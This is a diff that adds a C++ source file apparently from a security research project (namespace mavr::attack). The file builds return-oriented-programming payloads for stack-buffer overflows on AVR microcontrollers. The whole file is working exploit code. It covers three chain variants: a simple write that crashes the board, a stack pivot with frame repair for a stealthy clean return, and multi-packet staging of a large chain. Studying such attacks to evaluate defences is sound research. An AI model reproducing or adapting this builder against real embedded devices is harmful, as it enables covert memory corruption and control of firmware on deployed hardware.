@@ -1,0 +1,192 @@
+#include "attack/rop.hpp"
+
+#include "support/error.hpp"
+
+namespace mavr::attack {
+
+namespace {
+
+constexpr std::uint8_t kJunk = 0xA5;
+
+/// Big-endian 3-byte word address, the stack layout of a return target.
+void append_gadget_addr(support::Bytes& out, std::uint32_t byte_addr) {
+  MAVR_REQUIRE(byte_addr % 2 == 0, "gadget address must be even");
+  const std::uint32_t word = byte_addr / 2;
+  out.push_back(static_cast<std::uint8_t>((word >> 16) & 0xFF));
+  out.push_back(static_cast<std::uint8_t>((word >> 8) & 0xFF));
+  out.push_back(static_cast<std::uint8_t>(word & 0xFF));
+}
+
+}  // namespace
+
+std::vector<Write3> writes_for(std::uint16_t addr,
+                               const support::Bytes& bytes) {
+  MAVR_REQUIRE(bytes.size() >= 3, "need at least 3 bytes for a write chain");
+  std::vector<Write3> out;
+  std::size_t pos = 0;
+  while (pos < bytes.size()) {
+    if (pos + 3 > bytes.size()) pos = bytes.size() - 3;  // overlap the tail
+    Write3 w;
+    w.addr = static_cast<std::uint16_t>(addr + pos);
+    w.bytes = {bytes[pos], bytes[pos + 1], bytes[pos + 2]};
+    out.push_back(w);
+    pos += 3;
+  }
+  return out;
+}
+
+RopChainBuilder::RopChainBuilder(StkMoveGadget stk, WriteMemGadget wm,
+                                 VictimFrame frame)
+    : stk_(std::move(stk)), wm_(std::move(wm)), frame_(frame) {
+  MAVR_REQUIRE(!stk_.pops.empty(), "stk_move gadget has no pops");
+  MAVR_REQUIRE(wm_.pops.size() >= 5, "write_mem gadget pop run too short");
+}
+
+void RopChainBuilder::append_round(support::Bytes& out, std::uint16_t y,
+                                   std::uint8_t v0, std::uint8_t v1,
+                                   std::uint8_t v2,
+                                   std::uint32_t next_byte_addr) const {
+  // Lay the chunk out so each pop consumes the right byte: pops run in
+  // wm_.pops order, one byte per pop, ascending addresses.
+  for (std::uint8_t reg : wm_.pops) {
+    switch (reg) {
+      case 29: out.push_back(static_cast<std::uint8_t>(y >> 8)); break;
+      case 28: out.push_back(static_cast<std::uint8_t>(y & 0xFF)); break;
+      case 5: out.push_back(v0); break;
+      case 6: out.push_back(v1); break;
+      case 7: out.push_back(v2); break;
+      default: out.push_back(kJunk); break;
+    }
+  }
+  append_gadget_addr(out, next_byte_addr);
+}
+
+std::vector<Write3> RopChainBuilder::repair_writes() const {
+  // The final stk_move sets SP = P - S (S = |stk.pops|); its pops then
+  // consume P-S+1..P and its ret consumes the (repaired) return address at
+  // P+1..P+3, leaving SP at P+3 — exactly the state of a normal return.
+  const std::size_t s = stk_.pops.size();
+  support::Bytes region;
+  for (std::size_t j = 0; j < s; ++j) {
+    region.push_back(frame_.regs_at_entry[stk_.pops[j]]);
+  }
+  region.push_back(frame_.ret_bytes[0]);
+  region.push_back(frame_.ret_bytes[1]);
+  region.push_back(frame_.ret_bytes[2]);
+  return writes_for(static_cast<std::uint16_t>(frame_.p - s + 1), region);
+}
+
+support::Bytes RopChainBuilder::chain_bytes(
+    const std::vector<Write3>& writes) const {
+  support::Bytes chain;
+  // Consumed by the initial stk_move's own pops after the pivot.
+  chain.insert(chain.end(), stk_.pops.size(), kJunk);
+  append_gadget_addr(chain, wm_.pop_entry_byte_addr);
+
+  std::vector<Write3> all = writes;
+  for (const Write3& r : repair_writes()) all.push_back(r);
+
+  for (const Write3& w : all) {
+    // Y = target - 1 because the gadget stores to Y+1..Y+3.
+    append_round(chain, static_cast<std::uint16_t>(w.addr - 1), w.bytes[0],
+                 w.bytes[1], w.bytes[2], wm_.store_entry_byte_addr);
+  }
+  // Post-final-store chunk: load Y with the pivot-back target and return
+  // into the stk_move gadget.
+  const std::uint16_t y_pivot =
+      static_cast<std::uint16_t>(frame_.p - stk_.pops.size());
+  append_round(chain, y_pivot, kJunk, kJunk, kJunk, stk_.entry_byte_addr);
+  return chain;
+}
+
+support::Bytes RopChainBuilder::overflow_payload(const support::Bytes& chain,
+                                                 std::uint16_t pivot_y) const {
+  MAVR_REQUIRE(chain.size() <= frame_.frame_bytes,
+               "chain does not fit the vulnerable buffer");
+  support::Bytes payload = chain;
+  payload.resize(frame_.frame_bytes, kJunk);
+  // Saved-register slots: the handler epilogue pops r29 from P-1 and r28
+  // from P; the stk_move gadget then writes SPH/SPL from them.
+  payload.push_back(static_cast<std::uint8_t>(pivot_y >> 8));    // -> r29
+  payload.push_back(static_cast<std::uint8_t>(pivot_y & 0xFF));  // -> r28
+  append_gadget_addr(payload, stk_.entry_byte_addr);             // -> ret
+  return payload;
+}
+
+std::size_t RopChainBuilder::v2_write_capacity() const {
+  const std::size_t s = stk_.pops.size();
+  const std::size_t round = wm_.pops.size() + 3;
+  const std::size_t fixed = s + 3 + round;  // initial junk+entry, pivot round
+  if (frame_.frame_bytes < fixed) return 0;
+  const std::size_t rounds = (frame_.frame_bytes - fixed) / round;
+  const std::size_t repairs = repair_writes().size();
+  return rounds > repairs ? rounds - repairs : 0;
+}
+
+support::Bytes RopChainBuilder::v1_payload(const Write3& write) const {
+  // Traditional ROP: no pivot, no repair. The handler's own ret jumps into
+  // the write_mem pop run, which consumes the caller's live stack; after
+  // the store the next ret lands in garbage and the board crashes.
+  support::Bytes payload(frame_.frame_bytes, kJunk);
+  payload.push_back(kJunk);  // saved r29 slot
+  payload.push_back(kJunk);  // saved r28 slot
+  append_gadget_addr(payload, wm_.pop_entry_byte_addr);
+  // The chunk below lands on the *caller's* live stack (no pivot): check
+  // the headroom between the smashed frame and the top of SRAM.
+  const std::size_t headroom = frame_.ram_end - (frame_.p + 3);
+  MAVR_REQUIRE(headroom >= wm_.pops.size() + 3,
+               "V1 chain does not fit above the smashed frame");
+  append_round(payload, static_cast<std::uint16_t>(write.addr - 1),
+               write.bytes[0], write.bytes[1], write.bytes[2],
+               wm_.store_entry_byte_addr);
+  // Garbage return targets for the post-store pop run to chew on, clamped
+  // to SRAM.
+  const std::size_t junk =
+      std::min<std::size_t>(24, headroom - wm_.pops.size() - 3);
+  payload.insert(payload.end(), junk, 0xD9);
+  return payload;
+}
+
+support::Bytes RopChainBuilder::v2_payload(
+    const std::vector<Write3>& writes) const {
+  const support::Bytes chain = chain_bytes(writes);
+  return overflow_payload(
+      chain, static_cast<std::uint16_t>(frame_.buffer_addr - 1));
+}
+
+support::Bytes RopChainBuilder::staged_chain(
+    std::uint16_t /*staging_addr*/, const std::vector<Write3>& writes) const {
+  // The chain is position independent: it is pure data consumed through SP.
+  return chain_bytes(writes);
+}
+
+std::vector<support::Bytes> RopChainBuilder::v3_payloads(
+    std::uint16_t staging_addr, const std::vector<Write3>& writes) const {
+  std::vector<support::Bytes> packets;
+  const support::Bytes chain = chain_bytes(writes);
+
+  // Phase A: stage the big chain 3 bytes per clean-return packet.
+  const std::size_t per_packet = v2_write_capacity();
+  MAVR_REQUIRE(per_packet >= 1, "buffer too small for trampoline staging");
+  std::vector<Write3> batch;
+  for (const Write3& w : writes_for(staging_addr, chain)) {
+    batch.push_back(w);
+    if (batch.size() == per_packet) {
+      packets.push_back(v2_payload(batch));
+      batch.clear();
+    }
+  }
+  if (!batch.empty()) packets.push_back(v2_payload(batch));
+
+  // Phase B: pivot straight into the staged chain; its own tail repairs
+  // the frame and returns cleanly.
+  support::Bytes trigger(frame_.frame_bytes, kJunk);
+  const std::uint16_t pivot_y = static_cast<std::uint16_t>(staging_addr - 1);
+  trigger.push_back(static_cast<std::uint8_t>(pivot_y >> 8));
+  trigger.push_back(static_cast<std::uint8_t>(pivot_y & 0xFF));
+  append_gadget_addr(trigger, stk_.entry_byte_addr);
+  packets.push_back(std::move(trigger));
+  return packets;
+}
+
+}  // namespace mavr::attack
